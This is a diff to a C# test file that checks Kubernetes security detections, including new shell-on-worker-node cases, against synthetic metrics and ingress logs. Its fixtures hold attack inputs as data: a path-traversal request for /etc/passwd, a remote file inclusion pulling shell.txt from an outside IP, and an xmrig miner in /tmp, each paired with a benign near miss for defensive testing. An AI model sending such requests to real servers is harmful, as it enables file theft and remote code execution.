@@ -1,9 +1,8 @@
 using System.Globalization;
-using System.Text;
 using System.Text.Json;
 using Saker.Content;
-using Saker.Spl.Execution;
-using Saker.Spl.Planning;
+using Saker.Detections;
+using Saker.Spl.Syntax;
 using Saker.Spl.Text;
 using Xunit;
 
@@ -23,17 +22,13 @@ public sealed class KubernetesMetricDetectionTests
 
     [Theory]
     [MemberData(nameof(Stems))]
-    public void It_tells_the_attack_and_not_what_is_nearly_one(string stem)
+    public async Task It_tells_the_attack_and_not_what_is_nearly_one(string stem)
     {
-        var roots = Environment.GetEnvironmentVariable("SAKER_CORPUS")?.Split(':', StringSplitOptions.RemoveEmptyEntries) ?? [];
-        Assert.SkipUnless(roots.Length > 0, "SAKER_CORPUS names no clone of security_content");
         var test = Cases()[stem];
-        foreach (var root in roots)
+        foreach (var (library, detection) in DetectionTrial.Published(stem))
         {
-            var library = ContentLibrary.Load([root]);
-            var detection = Assert.Single(library.Detections, d => d.Stem == stem);
-            Assert.NotEmpty(Run(library, detection.Search, test.Baseline, test.Positive));
-            var rows = Run(library, detection.Search, test.Baseline, test.Negative);
+            Assert.NotEmpty(await RunAsync(library, detection.Search, test.Baseline, test.Positive));
+            var rows = await RunAsync(library, detection.Search, test.Baseline, test.Negative);
             Assert.True(rows.Count == 0, string.Join('\n', rows));
         }
     }
@@ -43,6 +38,7 @@ public sealed class KubernetesMetricDetectionTests
         var edge = With(("source.workload.name", "web"), ("dest.workload.name", "db"), ("source.process.name", "nginx"), ("dest.process.name", "postgres"));
         var process = With(("process.executable.name", "nginx"), ("process.executable.path", "/usr/sbin/nginx"), ("process.pid", "7"));
         var miner = With(("process.executable.name", "xmrig"), ("process.executable.path", "/tmp/xmrig"), ("process.pid", "8"));
+        var shell = With(("process.executable.name", "bash"), ("process.pid", "9"));
         var image = With(("container.image.name", "nginx"));
         var unknownImage = With(("container.image.name", "evil"));
         var traffic = Past("tcp.packets", edge, 10, 12);
@@ -75,56 +71,38 @@ public sealed class KubernetesMetricDetectionTests
             ["kubernetes_anomalous_inbound_outbound_network_io"] = new("Baseline Of Kubernetes Container Network IO", [.. Io(past: true, 10), .. Io(past: false, 900)], [.. Io(past: true, 10), .. Io(past: false, 11)]),
             ["kubernetes_anomalous_inbound_to_outbound_network_io_ratio"] = new(
                 "Baseline Of Kubernetes Container Network IO Ratio", [.. Io(past: true, 10), .. Io(past: false, 900)], [.. Io(past: true, 10), .. Io(past: false, 11)]),
+            ["kubernetes_shell_running_on_worker_node"] = new(null, Recent("process.memory.utilization", shell, 1, 0.2), [.. Recent("process.memory.utilization", process, 1, 0.2), .. Recent("process.cpu.utilization", shell, 1, 0)]),
+            ["kubernetes_shell_running_on_worker_node_with_cpu_activity"] = new(null, Recent("process.cpu.utilization", shell, 1, 0.2), Recent("process.cpu.utilization", shell, 1, 0)),
             ["kubernetes_nginx_ingress_lfi"] = new(null, [Request("/download?file=../../../etc/passwd")], [Request("/download?file=passwords.html")]),
             ["kubernetes_nginx_ingress_rfi"] = new(null, [Request("/include?page=http://192.0.2.7/shell.txt")], [Request("/include?page=http://example.com/v1.2.3/page.txt")]),
         };
     }
 
-    private static List<string> Run(ContentLibrary library, SourceText search, string? baseline, IReadOnlyList<Event> events)
+    private static async Task<List<string>> RunAsync(ContentLibrary library, SourceText search, string? baseline, IReadOnlyList<string> lines)
     {
         var lookups = new ContentLookups(library);
-        var hour = Nanoseconds(Now.AddHours(-1));
+        var (hour, now) = (Epoch(Now.AddHours(-1)), Epoch(Now));
+        var settings = new ScanSettings { Now = Now, Lookups = lookups };
         if (baseline is not null)
         {
             var found = Assert.Single(library.Baselines, b => b.Name == baseline);
-            Run(Plan(found.Search, library, lookups), lookups, events, new TimeRange(0, hour));
+            await DetectionTrial.RunAsync(library, found.Search, lines, settings with { Latest = hour });
         }
 
-        return Run(Plan(search, library, lookups), lookups, events, baseline is null ? TimeRange.All : new TimeRange(hour, Nanoseconds(Now)));
+        return await DetectionTrial.RunAsync(library, search, lines, baseline is null ? settings : settings with { Earliest = hour, Latest = now });
     }
 
-    private static SearchPlan Plan(SourceText search, ContentLibrary library, ILookups lookups)
-    {
-        try
-        {
-            var plan = SearchPlanner.Plan(search, library.Macros);
-            Assert.Empty(plan.MissingLookups(lookups));
-            return plan;
-        }
-        catch (SplException mistake) when (mistake.Diagnostics.All(d => d.Code is "SPL0111"))
-        {
-            Assert.Skip(mistake.Message);
-            throw;
-        }
-    }
-
-    private static List<string> Run(SearchPlan plan, ILookups lookups, IReadOnlyList<Event> events, TimeRange range)
-    {
-        var context = new SearchContext { Source = new MemoryEventSource(events), Now = Now, Range = range, Lookups = lookups };
-        var result = plan.Run(context);
-        var rows = result.Rows.ToList();
-        return [.. rows.Select(row => string.Join(' ', result.Columns.Names.Select(c => $"{c}={row[context.Fields.Slot(c)]}")))];
-    }
+    private static TimeModifier Epoch(DateTimeOffset time) => TimeModifier.TryParse(time.ToUnixTimeSeconds().ToString(CultureInfo.InvariantCulture), out var epoch) ? epoch : throw new InvalidOperationException();
 
     /// <summary>A point every hour of two days, from two hours ago, that swings between two values.</summary>
-    private static List<Event> Past(string metric, Dictionary<string, string> dimensions, double low, double high) =>
+    private static List<string> Past(string metric, Dictionary<string, string> dimensions, double low, double high) =>
         [.. Enumerable.Range(2, 48).Select(h => Metric(metric, h % 2 == 0 ? low : high, Now.AddHours(-h), dimensions))];
 
     /// <summary>Points ten seconds apart, the last a minute ago.</summary>
-    private static List<Event> Recent(string metric, Dictionary<string, string> dimensions, int points, double value) =>
+    private static List<string> Recent(string metric, Dictionary<string, string> dimensions, int points, double value) =>
         [.. Enumerable.Range(0, points).Select(i => Metric(metric, value, Now.AddMinutes(-1).AddSeconds(-10 * i), dimensions))];
 
-    private static IEnumerable<Event> Io(bool past, double received)
+    private static IEnumerable<string> Io(bool past, double received)
     {
         var (receive, transmit) = (With(("k8s.pod.name", "web-5d4f8c7b9d-abcde"), ("direction", "receive")), With(("k8s.pod.name", "web-5d4f8c7b9d-abcde"), ("direction", "transmit")));
         return past
@@ -145,29 +123,20 @@ public sealed class KubernetesMetricDetectionTests
         return all;
     }
 
-    private static Event Metric(string name, double value, DateTimeOffset time, Dictionary<string, string> dimensions)
+    private static string Metric(string name, double value, DateTimeOffset time, Dictionary<string, string> dimensions)
     {
-        var fields = new Dictionary<string, string>(dimensions) { ["metric_name"] = name, ["_value"] = value.ToString(CultureInfo.InvariantCulture) };
-        return new Event
-        {
-            Raw = JsonSerializer.SerializeToUtf8Bytes(fields),
-            IsMetric = true,
-            Index = "kubernetes_metrics",
-            TimeNanoseconds = Nanoseconds(time),
-            IndexTimeNanoseconds = Nanoseconds(time),
-        };
+        var fields = new Dictionary<string, object>(dimensions.Select(d => new KeyValuePair<string, object>(d.Key, d.Value))) { ["metric_name:" + name] = value };
+        return JsonSerializer.Serialize(new Dictionary<string, object> { ["time"] = time.ToUnixTimeSeconds(), ["event"] = "metric", ["fields"] = fields });
     }
 
-    private static Event Request(string path) => new()
+    private static string Request(string path) => JsonSerializer.Serialize(new Dictionary<string, object>
     {
-        Raw = Encoding.UTF8.GetBytes($"192.0.2.9 - - [14/Mar/2026:11:59:00 +0000] \"GET {path} HTTP/1.1\" 200 612 \"-\" \"curl/8.0\" 90 0.001 [default-web-80] [] 10.0.0.5:80 612 0.001 200 0f3c"),
-        Sourcetype = "kube:container:controller",
-        Source = "ingress",
-        Host = "node1",
-        TimeNanoseconds = Nanoseconds(Now.AddMinutes(-1)),
-    };
+        ["time"] = Now.AddMinutes(-1).ToUnixTimeSeconds(),
+        ["host"] = "node1",
+        ["source"] = "ingress",
+        ["sourcetype"] = "kube:container:controller",
+        ["event"] = $"192.0.2.9 - - [14/Mar/2026:11:59:00 +0000] \"GET {path} HTTP/1.1\" 200 612 \"-\" \"curl/8.0\" 90 0.001 [default-web-80] [] 10.0.0.5:80 612 0.001 200 0f3c",
+    });
 
-    private static long Nanoseconds(DateTimeOffset time) => TimeRange.Nanoseconds(time);
-
-    private sealed record Case(string? Baseline, IReadOnlyList<Event> Positive, IReadOnlyList<Event> Negative);
+    private sealed record Case(string? Baseline, IReadOnlyList<string> Positive, IReadOnlyList<string> Negative);
 }
